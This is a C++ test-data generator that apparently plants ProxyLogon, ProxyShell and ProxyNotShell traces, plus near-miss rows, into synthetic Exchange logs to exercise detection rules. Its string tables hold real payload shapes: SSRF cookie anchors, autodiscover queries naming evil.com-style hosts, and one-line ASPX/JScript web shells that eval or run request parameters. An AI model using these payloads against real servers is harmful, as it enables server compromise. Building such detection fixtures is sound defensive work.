// SPDX-License-Identifier: Apache-2.0
// Planted HttpProxy, ECP Server and OABGenerator lines (ProxyLogon), and the merged catalogue.
#include "attacks.hpp"

#include <vector>

namespace exlogs {
namespace {

constexpr std::string_view kSsrf = "proxylogon-ssrf";
constexpr std::string_view kSsrfAutodiscover = "proxylogon-ssrf-autodiscover";
constexpr std::string_view kLocalhost = "proxylogon-localhost-probe";
constexpr std::string_view kReset = "proxylogon-ecp-reset-vdir";
constexpr std::string_view kSetScript = "proxylogon-ecp-set-vdir-script";
constexpr std::string_view kOabWrite = "proxylogon-oab-file-write";
constexpr std::string_view kProxyShell = "proxyshell-autodiscover";
constexpr std::string_view kProxyNotShell = "proxynotshell-autodiscover-powershell";

// The X-BEResource cookie's spelling varies between tools; the rules compare case-insensitively.
constexpr std::string_view kServerInfo[] = {"ServerInfo~", "ServerInfo~", "SERVERINFO~", "serverinfo~"};
constexpr std::string_view kBackEnds[] = {"a]@EXCH01.contoso.com:444", "akak]@exch01",
                                          "x]@EXCH02.contoso.com:444", "ffff]@10.0.0.12:444",
                                          "b]@exch02.contoso.com:444", "EXCH01.contoso.com:444"};
constexpr std::string_view kAgents[] = {
    "python-requests/2.25.1",
    "ExchangeServicesClient/0.0.0.0",
    "Go-http-client/1.1",
    "curl/7.68.0",
    "DuckDuckBot/1.0;+(+http://duckduckgo.com/duckduckbot.html)",
    "antSword/v2.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/87.0.4280.88 "
    "Safari/537.36"};
constexpr std::string_view kAttemptStatus[] = {"500", "404", "302", "401", "503", "500"};

constexpr Protocol kSsrfProtocols[] = {Protocol::Ecp, Protocol::Ecp, Protocol::Ecp,
                                       Protocol::Owa, Protocol::Ews, Protocol::Mapi};
constexpr Protocol kEcpOwa[] = {Protocol::Ecp, Protocol::Owa};
constexpr Protocol kEcpOnly[] = {Protocol::Ecp};
constexpr Protocol kAutodiscoverOnly[] = {Protocol::Autodiscover};
constexpr Protocol kPowerShellOnly[] = {Protocol::PowerShell};
constexpr Protocol kMailProtocols[] = {Protocol::Ecp, Protocol::Owa, Protocol::Ews, Protocol::Mapi, Protocol::Eas};

std::string_view canary(PlantCtx& c, Arena& a) {
  std::string tmp;
  append_random(tmp, c.rng, 32, kAlnum);
  return a.put(tmp);
}

std::string_view attacker_ip(PlantCtx& c, Arena& a) {
  return c.rng.one_in(2) ? a.fmt("203.0.113.{}", c.rng.range(1, 254)) : a.fmt("198.51.100.{}", c.rng.range(1, 254));
}

// Makes a benign row look like the SSRF request: anonymous, an attacker's address and tool, a
// script-looking stem, and the chosen back-end cookie in AnchorMailbox.
void as_ssrf(PlantCtx& c, ProxyRow& r, std::string_view anchor, std::string_view status) {
  auto& v = r.v;
  auto& a = r.arena;
  static constexpr std::string_view kNames[] = {"y", "x", "ewq", "a", "qwe", "test"};
  if (v[kProtocolCol] == "Ecp") v[kUrlStem] = a.fmt("/ecp/{}.js", c.rng.pick(kNames));
  if (v[kProtocolCol] == "Owa") v[kUrlStem] = a.fmt("/owa/auth/{}.js", c.rng.pick(kNames));
  v[kUrlQuery] = "";
  v[kMethod] = c.rng.one_in(3) ? "GET" : "POST";
  v[kAnchorMailbox] = anchor;
  v[kHttpStatus] = status;
  v[kBackEndStatus] = status;
  v[kAuthenticationType] = "";
  v[kIsAuthenticated] = "False";
  v[kAuthenticatedUser] = "";
  v[kRoutingType] = "ServerInfo";
  v[kRoutingHint] = "X-BEResource-Cookie";
  v[kClientIpAddress] = attacker_ip(c, a);
  v[kUserAgent] = c.rng.pick(kAgents);
}

std::string_view ssrf_anchor(PlantCtx& c, Arena& a, std::string_view path) {
  return a.fmt("{}{}{}#", c.rng.pick(kServerInfo), c.rng.pick(kBackEnds), path);
}

Hits ssrf(PlantCtx& c, ProxyRow& r, bool success) {
  auto& a = r.arena;
  const auto k = c.rng.below(6);
  std::string_view path;
  switch (k) {
    case 0:
      path = "/mapi/emsmdb/?";
      break;
    case 1:
      path = "/ecp/proxyLogon.ecp?";
      break;
    case 2:
      path = a.fmt("/ecp/DDI/DDIService.svc/GetObject?schema=OABVirtualDirectory&msExchEcpCanary={}", canary(c, a));
      break;
    case 3:
      path = a.fmt("/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary={}", canary(c, a));
      break;
    case 4:
      path = "/EWS/Exchange.asmx?";
      break;
    default:
      path = "/owa/auth/x.js?";
      break;
  }
  // A ProxyLogon authentication request answers 241 when it works.
  const std::string_view status = success ? (k == 1 ? "241" : "200") : c.rng.pick(kAttemptStatus);
  as_ssrf(c, r, ssrf_anchor(c, a, path), status);
  Hits h;
  h.add(kSsrf);
  return h;
}

Hits ssrf_long(PlantCtx& c, ProxyRow& r) {
  Hits h = ssrf(c, r, c.rng.one_in(2));
  // A 200 KB GenericInfo with commas and quotes, so the field is quoted and the line is huge.
  c.big.clear();
  c.big += "BeginRequest=;ProxyState-Run=None;ServerLocatorCallTime=,Lat=0;Payload=\"";
  while (c.big.size() < 200 * 1024) append_random(c.big, c.rng, 64, kAlnum);
  c.big += "\";EndRequest=";
  r.v[kGenericInfo] = c.big;
  return h;
}

Hits ssrf_autodiscover(PlantCtx& c, ProxyRow& r) {
  auto& a = r.arena;
  static constexpr std::string_view kPaths[] = {"/autodiscover/autodiscover.xml?", "/AutoDiscover/x?",
                                                "/Autodiscover/Autodiscover.xml?"};
  static constexpr std::string_view kStatus[] = {"200", "404", "500", "302"};
  as_ssrf(c, r, ssrf_anchor(c, a, c.rng.pick(kPaths)), c.rng.pick(kStatus));
  Hits h;
  h.add(kSsrfAutodiscover);
  return h;
}

Hits localhost_probe(PlantCtx& c, ProxyRow& r) {
  // Scanners (Microsoft's nmap script among them) point the cookie at localhost. The last anchor
  // also names autodiscover: the localhost rule takes it, the other SSRF rules exclude it.
  static constexpr std::string_view kAnchors[] = {
      "ServerInfo~localhost/ecp/default.flt?", "ServerInfo~LOCALHOST/owa/auth/logon.aspx?",
      "serverinfo~localhost:444/ecp/x.js?#", "ServerInfo~localhost/autodiscover/autodiscover.xml?#"};
  static constexpr std::string_view kStatus[] = {"200", "500", "500", "404"};
  as_ssrf(c, r, c.rng.pick(kAnchors), c.rng.pick(kStatus));
  r.v[kUserAgent] = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)";
  Hits h;
  h.add(kLocalhost);
  return h;
}

Hits reset_vdir(PlantCtx& c, ProxyRow& r) {
  auto& a = r.arena;
  static constexpr std::string_view kSchemas[] = {"ResetOABVirtualDirectory", "ResetOABVirtualDirectory",
                                                  "ResetOwaVirtualDirectory"};
  const auto path =
      a.fmt("/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={}&schema={}", canary(c, a), c.rng.pick(kSchemas));
  as_ssrf(c, r, ssrf_anchor(c, a, path), "200");
  r.v[kMethod] = "POST";
  Hits h;  // the same row is an SSRF request too
  h.add(kReset);
  h.add(kSsrf);
  return h;
}

std::string_view shell_domain(PlantCtx& c, Arena& a) {
  static constexpr std::string_view kDomains[] = {"evil.com", "a.a", "x.com", "ffff.xyz", "mail.ru-update.net"};
  return c.rng.one_in(3) ? a.fmt("{:x}.com", c.rng.below(1u << 20)) : c.rng.pick(kDomains);
}

void as_autodiscover_json(PlantCtx& c, ProxyRow& r, std::string_view query, std::string_view user) {
  auto& v = r.v;
  v[kUrlStem] = c.rng.one_in(3) ? "/Autodiscover/autodiscover.json" : "/autodiscover/autodiscover.json";
  v[kUrlQuery] = query;
  v[kMethod] = c.rng.one_in(2) ? "GET" : "POST";
  v[kAuthenticatedUser] = user;
  v[kIsAuthenticated] = user.empty() ? "False" : "True";
  v[kAuthenticationType] = user.empty() ? "" : "Basic";
  v[kAnchorMailbox] = "";
  v[kClientIpAddress] = attacker_ip(c, r.arena);
  v[kUserAgent] = c.rng.pick(kAgents);
  static constexpr std::string_view kStatus[] = {"200", "200", "302", "401", "500", "400"};
  v[kHttpStatus] = c.rng.pick(kStatus);
  v[kBackEndStatus] = v[kHttpStatus];
}

Hits proxyshell_proxy(PlantCtx& c, ProxyRow& r) {
  auto& a = r.arena;
  const auto d = shell_domain(c, a);
  std::string_view q;
  switch (c.rng.below(3)) {
    case 0:
      q = a.fmt("?@{0}/powershell/?&Email=autodiscover/autodiscover.json%3f@{0}", d);
      break;
    case 1:
      q = a.fmt("?@{0}/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@{0}", d);
      break;
    default:  // %-encoded: only a URL-decoding matcher sees the @ and /powershell
      q = a.fmt("?%40{0}%2F%70owershell%2F%3F%26Email%3Dautodiscover%2Fautodiscover.json%253F%40{0}", d);
      break;
  }
  as_autodiscover_json(c, r, q, "");
  Hits h;
  h.add(kProxyShell);
  return h;
}

Hits proxynotshell_proxy(PlantCtx& c, ProxyRow& r) {
  auto& a = r.arena;
  const auto d = shell_domain(c, a);
  const std::string_view q =
      c.rng.one_in(2)
          ? a.fmt("?@{}/PowerShell/", d)
          : a.fmt("?@{0}/owa/&Email=autodiscover/autodiscover.json%3F@{0}&Protocol=XYZ&FooProtocol=%50owershell", d);
  const std::string_view user = c.pop.users[c.rng.index(c.pop.users.size())];
  as_autodiscover_json(c, r, q, a.fmt("{}@{}", user, kDomain));
  Hits h;
  h.add(kProxyNotShell);
  return h;
}

Hits set_vdir_script(PlantCtx& c, std::string& line) {
  static constexpr std::string_view kShells[] = {
      R"(<script language="JScript" runat="server">function Page_Load(){eval(Request["{P}"],"unsafe");}</script>)",
      R"(<script language="JScript" runat="server">function Page_Load(){eval(System.Text.Encoding.UTF8.GetString()"
      R"(System.Convert.FromBase64String(Request.Item["{P}"])),"unsafe");}</script>)",
      R"(<script runat=server>void Page_Load(object s, EventArgs e){System.Diagnostics.Process.Start(Request["{P}"]);}</script>)"};
  static constexpr std::string_view kCmds[] = {
      "Set-OabVirtualDirectory.ExternalUrl=", "Set-OABVirtualDirectory.InternalUrl=",
      "set-oabvirtualdirectory.externalurl="};
  std::string shell(c.rng.pick(kShells));
  std::string param;
  append_random(param, c.rng, 1 + c.rng.below(8), "abcdefghijklmnopqrstuvwxyz");
  shell.replace(shell.find("{P}"), 3, param);
  std::string d = "S:ACTID=";
  append_guid(d, c.rng);
  d += ";S:REQID=;S:CMD=";
  d += c.rng.pick(kCmds);
  d += "'http://" + std::string(c.rng.one_in(2) ? "f" : "ffff") + "/" + shell + "'.Identity='";
  append_guid(d, c.rng);
  d += "';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=";
  append_random(d, c.rng, 43, kAlnum);
  append_ecp_row(line, c.ms, pick_server(c.rng), "ECP.Request", d);
  Hits h;
  h.add(kSetScript);
  return h;
}

Hits oab_file_write(PlantCtx& c, std::string& line) {
  // Anywhere but <root>\ClientAccess\OAB\: web roots, a UNC path, and names that only look like it.
  static constexpr std::string_view kDirs[] = {
      "C:\\inetpub\\wwwroot\\aspnet_client\\",
      "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\",
      "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\ecp\\auth\\",
      "\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\system_web\\",
      "E:\\Exchange\\ClientAccess\\ecp\\",
      "C:\\inetpub\\wwwroot\\aspnet_client\\ClientAccess\\OAB"};
  static constexpr std::string_view kNames[] = {"shell", "supp0rt", "OutlookEN", "errorEE", "discover", "xx"};
  std::string m = "Download failed and temporary file '";
  m += c.rng.pick(kDirs);
  m += c.rng.pick(kNames);
  m += ".aspx' needs to be removed.";
  append_oab_line(line, c.ms, c.rng.range(4, 80), m);
  Hits h;
  h.add(kOabWrite);
  return h;
}

// ---- near-misses: the same shapes, just short of a rule ----

Hits nm_proxy_anchor(PlantCtx& c, ProxyRow& r, std::string_view anchor) {
  r.v[kAnchorMailbox] = anchor;
  r.v[kHttpStatus] = "200";
  r.v[kBackEndStatus] = "200";
  (void)c;
  return {};
}

Hits nm_set_owa_vdir(PlantCtx& c, std::string& line) {
  append_ecp_row(line, c.ms, pick_server(c.rng), "ECP.Request",
                 "S:CMD=Set-OwaVirtualDirectory.ExternalUrl='https://mail.contoso.com/owa'.Identity='x';"
                 "S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OWAVirtualDirectory");
  return {};
}

Hits nm_get_oab_vdir_tag(PlantCtx& c, std::string& line) {
  append_ecp_row(
      line, c.ms, pick_server(c.rng), "ECP.Request",
      "S:CMD=Get-OabVirtualDirectory;S:URL=/ecp/DDI/DDIService.svc/GetList?schema=<b>OABVirtualDirectory</b>");
  return {};
}

Hits nm_oab_temp_file(PlantCtx& c, std::string& line) {
  // Inside <root>\ClientAccess\OAB\ under any install root: what the OAB generator cleans up.
  static constexpr std::string_view kRoots[] = {"C:\\Program Files\\Microsoft\\Exchange Server\\V15\\",
                                                "E:\\Exchange\\", "D:\\Apps\\Exchange Server\\V15\\"};
  std::string m = "Download failed and temporary file '";
  m += c.rng.pick(kRoots);
  m += "ClientAccess\\OAB\\Temp\\";
  append_guid(m, c.rng);
  m += ".tmp' needs to be removed.";
  append_oab_line(line, c.ms, c.rng.range(4, 80), m);
  return {};
}

Hits nm_oab_download_ok(PlantCtx& c, std::string& line) {
  append_oab_line(line, c.ms, c.rng.range(4, 80),
                  "Download succeeded for 'C:\\inetpub\\wwwroot\\aspnet_client\\shell.aspx'");
  return {};
}

const Template kProxyAttacks[] = {
    {"ssrf success", Target::httpproxy, kSsrfProtocols, {}, [](PlantCtx& c, ProxyRow& r) { return ssrf(c, r, true); }},
    {"ssrf attempt", Target::httpproxy, kSsrfProtocols, {}, [](PlantCtx& c, ProxyRow& r) { return ssrf(c, r, false); }},
    {"ssrf autodiscover", Target::httpproxy, kEcpOwa, {}, ssrf_autodiscover},
    {"localhost probe", Target::httpproxy, kEcpOwa, {}, localhost_probe},
    {"reset vdir", Target::httpproxy, kEcpOnly, {}, reset_vdir},
    {"set vdir script", Target::ecp_server, {}, {}, nullptr, nullptr, set_vdir_script},
    {"oab file write", Target::oab_generator, {}, {}, nullptr, nullptr, oab_file_write},
    {"proxyshell httpproxy", Target::httpproxy_new, kAutodiscoverOnly, {}, proxyshell_proxy},
    {"proxynotshell httpproxy", Target::httpproxy_new, kAutodiscoverOnly, {}, proxynotshell_proxy},
};

const Template kLongLine = {"ssrf long line", Target::httpproxy_new, kEcpOwa, {}, ssrf_long};

const Template kProxyNearMisses[] = {
    {"serverinfo without path", Target::httpproxy, kMailProtocols, kSsrf,
     [](PlantCtx& c, ProxyRow& r) {
       static constexpr std::string_view kA[] = {"ServerInfo~EXCH02.contoso.com", "SERVERINFO~exch01",
                                                 "ServerInfo~exch02.contoso.com:444"};
       return nm_proxy_anchor(c, r, c.rng.pick(kA));
     }},
    {"sid with path", Target::httpproxy, kMailProtocols, kSsrf,
     [](PlantCtx& c, ProxyRow& r) {
       return nm_proxy_anchor(c, r, r.arena.fmt("Sid~{}/ecp/", c.pop.sids[c.rng.index(c.pop.sids.size())]));
     }},
    {"reset vdir by a mailbox", Target::httpproxy, kEcpOnly, kReset,
     [](PlantCtx& c, ProxyRow& r) {
       r.v[kUrlStem] = "/ecp/DDI/DDIService.svc/SetObject";
       r.v[kUrlQuery] = r.arena.fmt("?msExchEcpCanary={}&schema=ResetOABVirtualDirectory", canary(c, r.arena));
       r.v[kMethod] = "POST";
       return nm_proxy_anchor(c, r, "SMTP:administrator@contoso.com");
     }},
    {"localhost without path", Target::httpproxy, kEcpOwa, kLocalhost,
     [](PlantCtx& c, ProxyRow& r) {
       return nm_proxy_anchor(c, r, c.rng.one_in(2) ? "ServerInfo~localhost" : "ServerInfo~localhost:444");
     }},
    {"autodiscover mailbox", Target::httpproxy, kAutodiscoverOnly, kSsrfAutodiscover,
     [](PlantCtx& c, ProxyRow& r) { return nm_proxy_anchor(c, r, "SMTP:autodiscover@contoso.com"); }},
    {"autodiscover v1.0 lookup", Target::httpproxy_new, kAutodiscoverOnly, kProxyShell,
     [](PlantCtx& c, ProxyRow& r) {
       const std::string_view user = c.pop.users[c.rng.index(c.pop.users.size())];
       r.v[kUrlStem] = r.arena.fmt("/autodiscover/autodiscover.json/v1.0/{}@{}", user, kDomain);
       r.v[kUrlQuery] = "?Protocol=EWS&RedirectCount=1";
       r.v[kAuthenticatedUser] = "";
       r.v[kIsAuthenticated] = "False";
       return Hits{};
     }},
    {"health mailbox powershell", Target::httpproxy, kPowerShellOnly, kProxyNotShell,
     [](PlantCtx& c, ProxyRow& r) {
       r.v[kAuthenticatedUser] = r.arena.fmt("{}@{}", c.pop.health_mailboxes[0], kDomain);
       r.v[kHttpStatus] = "200";
       return Hits{};
     }},
    {"set owa vdir without script", Target::ecp_server, {}, kSetScript, nullptr, nullptr, nm_set_owa_vdir},
    {"get oab vdir with a tag", Target::ecp_server, {}, kSetScript, nullptr, nullptr, nm_get_oab_vdir_tag},
    {"oab temp file in ClientAccess", Target::oab_generator, {}, kOabWrite, nullptr, nullptr, nm_oab_temp_file},
    {"oab download succeeded", Target::oab_generator, {}, kOabWrite, nullptr, nullptr, nm_oab_download_ok},
};

template <class Lists>
std::vector<Template> merge(const Lists& lists) {
  std::vector<Template> out;
  for (auto list : lists) out.insert(out.end(), list.begin(), list.end());
  return out;
}

}  // namespace

std::span<const Template> attack_templates() {
  static const std::vector<Template> all =
      merge(std::array<std::span<const Template>, 2>{kProxyAttacks, iis_attack_templates()});
  return all;
}

std::span<const Template> near_miss_templates() {
  static const std::vector<Template> all =
      merge(std::array<std::span<const Template>, 2>{kProxyNearMisses, iis_near_miss_templates()});
  return all;
}

const Template& long_line_template() { return kLongLine; }

}  // namespace exlogs
